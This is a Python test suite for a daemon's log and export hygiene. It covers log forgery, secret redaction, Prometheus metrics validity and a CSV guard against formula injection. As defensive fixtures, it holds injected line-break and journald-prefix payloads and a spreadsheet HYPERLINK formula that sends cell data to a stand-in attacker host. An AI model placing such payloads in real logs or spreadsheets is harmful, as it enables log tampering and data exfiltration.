"""What the daemon writes about its clients (issue 12, points 1 and 11).

- Log forgery: a request line, a name or a file name holding line breaks
  (`GET /x%0A%3C0%3Eforged`) is logged as one line with the bytes escaped
  (`\\x0a`); no client makes a line of its own, let alone one with the
  `<0>` (emergency) prefix journald would honour.
- Secrets: a distinctive token and request body sent to many routes,
  failing ones included (wrong token, broken JSON, bad rows, unknown
  routes, wrong methods), never show up in the log, in /metrics or in an
  error body.
- /metrics passes `promtool check metrics` (Debian's `prometheus`
  package): the test fails when promtool is missing rather than skipping.

The daemon is $LEADTIME_BIN; it is stopped by its own pid.
"""
import datetime
import http.client
import json
import os
import re
import shutil
import socket
import subprocess
import tempfile
import time
import unittest

import daemon

BIN = daemon.BIN
AS_OF = "2026-11-22"


def raw(port, data, timeout=10):
    """Send bytes, read until the server closes; the answer's bytes."""
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    out = []
    try:
        s.sendall(data)
        s.shutdown(socket.SHUT_WR)
        while True:
            try:
                b = s.recv(65536)
            except (ConnectionResetError, socket.timeout):
                break
            if not b:
                break
            out.append(b)
    finally:
        s.close()
    return b"".join(out)


def status_of(answer):
    m = re.match(rb"HTTP/1\.[01] (\d{3})", answer)
    return int(m.group(1)) if m else None


def run(args, timeout=120):
    return subprocess.run([BIN] + [str(a) for a in args], env=daemon.clean_env(),
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=timeout)


class Served(unittest.TestCase):
    """One daemon with a write token on a small generated store."""
    TOKEN = "tok-7f3a9c-DISTINCT-SECRET"

    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.mkdtemp(prefix="lt-hygiene-")
        db = os.path.join(cls.tmp, "h.db")
        r = run(["generate", "--creators", "40", "--seed", "5", "--as-of", AS_OF, "--db", db])
        assert r.returncode == 0, r.stderr
        cls.ini = os.path.join(cls.tmp, "h.ini")
        with open(cls.ini, "w") as f:
            f.write("[data]\ndb = h.db\nas_of = %s\nseed_demo = false\n"
                    "[server]\nthreads = 2\nmax_body_mb = 1\n"
                    "[auth]\nwrite_token = %s\n" % (AS_OF, cls.TOKEN))
        cls.d = daemon.Daemon(cls.ini)
        cls.port = cls.d.port

    @classmethod
    def tearDownClass(cls):
        rc = cls.d.stop()
        text = cls.d.text()
        shutil.rmtree(cls.tmp, ignore_errors=True)
        assert rc == 0, "exit %d\n%s" % (rc, text[-3000:])
        for marker in ("Sanitizer", "runtime error:"):
            assert marker not in text, text[-3000:]

    def lines_with(self, needle, count, timeout=30):
        """The log lines holding needle, once there are `count` of them
        (request lines are batched: polled with a generous deadline)."""
        deadline = time.monotonic() + timeout
        while True:
            got = [l for l in self.d.text().splitlines() if needle in l]
            if len(got) >= count or time.monotonic() > deadline:
                return got
            time.sleep(0.05)


class LogForgery(Served):
    def test_raw_request_line_with_a_line_break(self):
        """The issue's request, byte for byte: one line, escaped."""
        answer = raw(self.port, b"GET /x%0A%3C0%3Eforged HTTP/1.1\r\nHost: x\r\n"
                                b"Connection: close\r\n\r\n")
        self.assertEqual(status_of(answer), 404)
        got = self.lines_with("forged", 1)
        self.assertEqual(len(got), 1, got)
        self.assertTrue(got[0].startswith("<6>GET /x\\x0a<0>forged 404 "), got)
        # no line of the log starts with a prefix the client chose
        self.assertFalse([l for l in self.d.text().splitlines() if l.startswith("<0>")])

    def test_names_with_line_breaks(self):
        """Employee, department and creator names in paths, with CR, LF,
        a tab and an escape; each request is one line."""
        cases = [
            ("/api/v1/employees/Ann%0D%0A%3C3%3Efake-emp", "Ann\\x0d\\x0a<3>fake-emp"),
            ("/api/v1/departments/Sales%0A%3C1%3Efake-dept", "Sales\\x0a<1>fake-dept"),
            ("/api/v1/creators/Bo%09b%1B%5B2J%0Afake-creator", "Bo\\x09b\\x1b[2J\\x0afake-creator"),
        ]
        for path, shown in cases:
            c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
            c.request("GET", path)
            r = c.getresponse()
            r.read()
            c.close()
            self.assertEqual(r.status, 404, path)
            tail = shown.rsplit("fake-", 1)[1]
            got = self.lines_with("fake-" + tail, 1)
            self.assertEqual(len(got), 1, got)
            self.assertIn("GET /api/v1/", got[0])
            self.assertIn(shown + " 404 ", got[0])
        # UTF-8 in a name stays as it is
        c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
        c.request("GET", "/api/v1/employees/J%C3%BCrgen-%E2%80%93-utf8")
        c.getresponse().read()
        c.close()
        got = self.lines_with("-utf8", 1)
        self.assertEqual(len(got), 1, got)
        self.assertIn("/api/v1/employees/J\u00fcrgen-\u2013-utf8 404", got[0])


class Secrets(Served):
    """No token, Authorization header or request body in the log, in
    /metrics or in an error body.  The body marker sits where no message
    has a reason to quote it (SPEC §2's row problems quote the offending
    field, here a date; never a whole row or the text around an error)."""
    WRONG = "wrong-4b1d-DISTINCT-TOKEN"
    MARK = "BODYMARKQZXWVDIS"  # letters only, short: one token that jansson would quote

    def send(self, method, path, headers, body=b""):
        c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        try:
            c.request(method, path, body=body, headers=headers)
            r = c.getresponse()
            return r.status, r.read()
        finally:
            c.close()

    def test_nothing_secret_is_echoed_logged_or_counted(self):
        tok = {"Authorization": "Bearer " + self.TOKEN}
        wrong = {"Authorization": "Bearer " + self.WRONG}
        csv_rows = ("ticket_id,creator,employee,department,opened_on,closed_on\n"
                    "S-1,%s,Ana Lima,Sales,2026-13-45,\n" % self.MARK).encode()
        cases = [
            # (method, path, headers, body, status)
            ("GET", "/api/v1/overview", tok, b"", 200),
            ("GET", "/api/v1/overview?bogus=1", tok, b"", 400),
            ("GET", "/api/v1/nope/" + "x", tok, b"", 404),
            ("DELETE", "/api/v1/meta", tok, b"", 405),
            ("POST", "/api/v1/import", dict(wrong, **{"Content-Type": "text/csv"}), csv_rows, 401),
            ("POST", "/api/v1/import", {"Content-Type": "text/csv"}, csv_rows, 401),
            ("POST", "/api/v1/import", dict(tok, **{"Content-Type": "text/csv"}), csv_rows, 422),
            ("POST", "/api/v1/import", dict(tok, **{"Content-Type": "text/plainx"}), csv_rows, 415),
            ("PUT", "/api/v1/import", tok, csv_rows, 405),
            ("POST", "/api/v1/tickets", dict(tok, **{"Content-Type": "application/json"}),
             ('[{"creator": "%s' % self.MARK).encode(), 400),
            ("POST", "/api/v1/tickets", dict(tok, **{"Content-Type": "application/json"}),
             ('[%s]' % self.MARK).encode(), 400),
            ("POST", "/api/v1/tickets", dict(tok, **{"Content-Type": "application/json"}),
             json.dumps([{"ticket_id": "S-2", "creator": self.MARK, "employee": "Ana Lima",
                          "department": "Sales", "opened_on": "yesterday"}]).encode(), 422),
            ("POST", "/api/v1/aliases", dict(tok, **{"Content-Type": "application/json"}),
             ("{%s}" % self.MARK).encode(), 400),
            ("POST", "/api/v1/aliases", dict(wrong, **{"Content-Type": "application/json"}),
             ("{%s}" % self.MARK).encode(), 401),
            ("POST", "/api/v1/events", dict(tok, **{"Content-Type": "application/json"}),
             ("[%s]" % self.MARK).encode(), 422),
            ("POST", "/api/v1/events", dict(tok, **{"Content-Type": "text/csv"}),
             ("case,activity,timestamp\n%s,\"x\n" % self.MARK).encode(), 422),
        ]
        secrets = [self.TOKEN, self.WRONG, self.MARK]
        for method, path, headers, body, want in cases:
            st, answer = self.send(method, path, headers, body)
            self.assertEqual(st, want, (method, path, answer[:300]))
            if st >= 400:  # (401's help text names the header, never a value)
                for sec in secrets:
                    self.assertNotIn(sec.encode(), answer, (method, path, answer[:300]))
        # a token cut by a NUL, and folded: refused without an echo
        for head in (b"Authorization: Bearer " + self.TOKEN.encode() + b"\x00x\r\n",
                     b"Authorization: Bearer\r\n " + self.TOKEN.encode() + b"\r\n"):
            answer = raw(self.port, b"POST /api/v1/tickets HTTP/1.1\r\nHost: x\r\n" + head +
                         b"Content-Type: application/json\r\nContent-Length: 2\r\n"
                         b"Connection: close\r\n\r\n[]")
            self.assertEqual(status_of(answer), 400, answer[:300])
            self.assertNotIn(self.TOKEN.encode(), answer)
        st, metrics = self.send("GET", "/metrics", {})
        self.assertEqual(st, 200)
        for sec in secrets + ["Bearer", "Authorization"]:
            self.assertNotIn(sec.encode(), metrics)
        # every request has its line (batched: poll), and none says more
        self.lines_with("POST /api/v1/events 422", 2)
        self.lines_with("GET /metrics 200", 1)
        log = self.d.text()
        for sec in secrets + ["Bearer", "Authorization"]:
            self.assertNotIn(sec, log)

    def test_metrics_pass_promtool(self):
        """`promtool check metrics` (Debian's prometheus package) on
        /metrics after requests of many routes and statuses.  Missing
        promtool is a failure: scripts/install-deps.sh installs it."""
        promtool = shutil.which("promtool")
        self.assertIsNotNone(promtool, "promtool is missing: apt-get install prometheus "
                                       "(scripts/install-deps.sh does)")
        for path in ("/healthz", "/api/v1/overview", "/api/v1/meta?bogus=1", "/nope",
                     "/api/v1/departments/Sales?format=csv&table=employees", "/metrics"):
            self.send("GET", path, {})
        self.send("POST", "/api/v1/import", {"Content-Type": "text/csv"}, b"x")
        raw(self.port, b"GET /api/v1/meta?" + b"&".join([b"a=1"] * 150) + b" HTTP/1.1\r\n"
                       b"Host: x\r\nConnection: close\r\n\r\n")  # 414, no route
        st, metrics = self.send("GET", "/metrics", {})
        self.assertEqual(st, 200)
        self.assertIn(b'status="414"', metrics)
        p = subprocess.run([promtool, "check", "metrics"], input=metrics,
                           stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60)
        self.assertEqual(p.returncode, 0, p.stdout.decode("utf-8", "replace"))
        self.assertEqual(p.stdout.strip(), b"", p.stdout)


class FileNames(unittest.TestCase):
    """File names reach the log through the CLI and the config path."""

    def test_import_file_name_with_a_line_break(self):
        tmp = tempfile.mkdtemp(prefix="lt-hygiene-")
        try:
            path = os.path.join(tmp, "no\n<0>forged.csv")
            r = run(["import", "--db", os.path.join(tmp, "x.db"), path])
            err = r.stderr.decode("utf-8", "replace")
            self.assertEqual(r.returncode, 1, err)
            lines = [l for l in err.splitlines() if "forged" in l]
            self.assertEqual(len(lines), 1, err)
            self.assertIn("no\\x0a<0>forged.csv: cannot open", lines[0])
            self.assertFalse([l for l in err.splitlines() if l.startswith("<0>")], err)
        finally:
            shutil.rmtree(tmp, ignore_errors=True)

    def test_config_file_name_with_a_line_break(self):
        r = run(["serve", "--config", "/nonexistent/c\r\n<2>forged.ini", "--port", "0"])
        err = r.stderr.decode("utf-8", "replace")
        self.assertEqual(r.returncode, 2, err)
        self.assertEqual(len(err.splitlines()), 1, err)
        self.assertIn("c\\x0d\\x0a<2>forged.ini: cannot open config", err)


TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PIT_TEXT = {"creator", "employee", "department", "ticket_id"}


def is_number(cell):
    try:
        float(cell)
        return True
    except ValueError:
        return False


class SpreadsheetGuard(unittest.TestCase):
    """format=csv&safe=1 (issue 12): every text cell a spreadsheet would
    evaluate (OWASP: beginning with = + - @, tab, CR) gets a leading single
    quote (a ticket id "-5" too: it is text); every other cell, and every
    number the daemon wrote (negative ones included), is the same as
    without safe=1.  Checked cell by cell against the
    plain export, on the pit CSV, an analytics table and the CLI."""
    HOSTILE = [
        # ticket_id, creator, employee, department
        ("=T1", "=HYPERLINK(\"http://e.vil/?\"&A1,\"x\")", "Ana Lima", "Sales"),
        ("@T2", "+1+1", "=Eve", "@Ops"),
        ("T3", "-2+3", "@SUM(A1:A9)", "Sales"),
        ("T4", "Plain Creator", "Bo\tb", "@Ops"),
        ("-5", "-Dee", "Cy -1", "Sales"),
    ]

    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.mkdtemp(prefix="lt-guard-")
        cls.ini = os.path.join(cls.tmp, "g.ini")
        with open(cls.ini, "w") as f:
            f.write("[data]\ndb = g.db\nas_of = %s\nseed_demo = false\n"
                    "[pipeline]\ndepartments = Sales, @Ops\nsla_days = 10, 20\n" % AS_OF)
        rows = ["ticket_id,creator,employee,department,opened_on,closed_on"]
        for i, (tid, creator, emp, dept) in enumerate(cls.HOSTILE):
            q = lambda v: '"%s"' % v.replace('"', '""')
            opened = datetime.date(2026, 10, 1 + i)
            closed = opened + datetime.timedelta(days=4 + 7 * i)  # lead times differ
            rows.append(",".join([q(tid), q(creator), q(emp), q(dept), opened.isoformat(),
                                  closed.isoformat() if i != 3 else ""]))
        csv_path = os.path.join(cls.tmp, "t.csv")
        with open(csv_path, "w", newline="") as f:
            f.write("\n".join(rows) + "\n")
        r = run(["import", "--config", cls.ini, csv_path])
        assert r.returncode == 0, r.stderr
        cls.d = daemon.Daemon(cls.ini)

    @classmethod
    def tearDownClass(cls):
        rc = cls.d.stop()
        shutil.rmtree(cls.tmp, ignore_errors=True)
        assert rc == 0, cls.d.text()[-3000:]

    def get(self, target):
        c = http.client.HTTPConnection("127.0.0.1", self.d.port, timeout=30)
        c.request("GET", target)
        r = c.getresponse()
        body = r.read()
        c.close()
        return r.status, body

    def rows(self, text):
        import csv
        import io
        return list(csv.reader(io.StringIO(text.decode("utf-8"), newline="")))

    def compare(self, plain, safe, text_cols):
        """safe = plain with the guard on exactly the cells of the text
        columns that need it; (the number of guarded cells, plain rows)."""
        p, s = self.rows(plain), self.rows(safe)
        self.assertEqual(len(p), len(s))
        self.assertEqual(p[0], s[0])
        text = [name in text_cols for name in p[0]]
        self.assertEqual(sum(text), len(text_cols), p[0])
        guarded = 0
        for pr, sr in zip(p[1:], s[1:]):
            self.assertEqual(len(pr), len(sr))
            for is_text, a, b in zip(text, pr, sr):
                if is_text and a.startswith(TRIGGERS):
                    self.assertEqual(b, "'" + a)
                    guarded += 1
                else:
                    self.assertEqual(b, a)
        return guarded, p

    def test_pit_csv(self):
        q = "/api/v1/pit?format=csv&from=2026-10-01&to=%s" % AS_OF
        st, plain = self.get(q)
        self.assertEqual(st, 200)
        st, safe = self.get(q + "&safe=1")
        self.assertEqual(st, 200)
        guarded, rows = self.compare(plain, safe, PIT_TEXT)
        # every hostile value occurs, so every trigger was exercised
        cells = set(c for r in rows for c in r)
        for tid, creator, emp, dept in self.HOSTILE:
            for v in (tid, creator, emp, dept):
                self.assertIn(v, cells)
        self.assertGreater(guarded, len(rows))  # more than one per row
        # safe=0 is the plain export
        st, zero = self.get(q + "&safe=0")
        self.assertEqual(zero, plain)
        # the numeric columns stay numbers
        header = rows[0]
        for r in rows[1:]:
            for name in ("initiated_contact", "is_open", "ticket_age", "ticket_closed"):
                self.assertTrue(is_number(r[header.index(name)]))

    def test_analytics_table(self):
        """A department's employee table: names guarded, negative scores
        (numbers the daemon wrote) not."""
        q = "/api/v1/departments/Sales?format=csv&table=employees&from=2026-10-01&to=%s" % AS_OF
        st, plain = self.get(q)
        self.assertEqual(st, 200, plain)
        st, safe = self.get(q + "&safe=1")
        self.assertEqual(st, 200)
        guarded, rows = self.compare(plain, safe, {"name", "flags"})
        self.assertGreaterEqual(guarded, 1)
        negative = [c for r in rows[1:] for c in r if c.startswith("-") and is_number(c)]
        self.assertTrue(negative, "no negative number to check: %r" % rows)
        self.assertNotIn(b"'-", safe)  # no number was quoted
        # the ETag of the guarded table is its own
        c = http.client.HTTPConnection("127.0.0.1", self.d.port, timeout=30)
        c.request("GET", q)
        e1 = c.getresponse()
        e1.read()
        c.request("GET", q + "&safe=1")
        e2 = c.getresponse()
        e2.read()
        c.close()
        self.assertNotEqual(e1.getheader("ETag"), e2.getheader("ETag"))

    def test_bad_safe(self):
        for q, msg in (("/api/v1/pit?format=json&safe=1&from=2026-10-01&to=2026-10-02",
                        b"safe: only with format=csv"),
                       ("/api/v1/pit?safe=2&from=2026-10-01&to=2026-10-02", b"safe: '2'"),
                       ("/api/v1/overview?safe=1", b"safe: only with format=csv")):
            st, body = self.get(q)
            self.assertEqual(st, 400, body)
            self.assertIn(msg, body)

    def test_cli_pit_safe(self):
        args = ["pit", "--config", self.ini, "--from", "2026-10-01", "--to", AS_OF]
        plain, safe = run(args), run(args + ["--safe"])
        self.assertEqual(plain.returncode, 0, plain.stderr)
        self.assertEqual(safe.returncode, 0, safe.stderr)
        guarded, _ = self.compare(plain.stdout, safe.stdout, PIT_TEXT)
        self.assertGreater(guarded, 0)
        # the same bytes as the HTTP export
        st, body = self.get("/api/v1/pit?format=csv&safe=1&from=2026-10-01&to=%s" % AS_OF)
        self.assertEqual(body, safe.stdout)


if __name__ == "__main__":
    unittest.main()
